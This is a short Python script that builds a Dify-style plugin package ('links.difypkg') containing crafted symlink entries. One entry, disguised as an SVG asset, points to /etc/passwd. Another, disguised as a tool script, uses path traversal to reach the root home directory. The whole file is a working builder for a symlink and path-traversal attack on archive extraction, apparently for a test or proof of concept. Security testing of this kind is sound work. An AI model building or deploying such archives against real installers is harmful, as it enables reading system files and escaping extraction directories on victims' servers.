import zipfile
from pathlib import Path


def package(plugin: Path, target: Path, skip: tuple[str, ...] = ()) -> zipfile.ZipFile:
    archive = zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED)
    for path in sorted(plugin.rglob("*")):
        name = path.relative_to(plugin).as_posix()
        if path.is_file() and name not in skip:
            archive.write(path, name)
    return archive


def build(plugin: Path, work: Path, port: int) -> Path:
    target = work / "links.difypkg"
    with package(plugin, target) as archive:
        for name, points in (("_assets/passwd.svg", "/etc/passwd"), ("tools/up.py", "../../../../root")):
            link = zipfile.ZipInfo(name)
            link.external_attr = (0o120777) << 16
            archive.writestr(link, points)
    return target
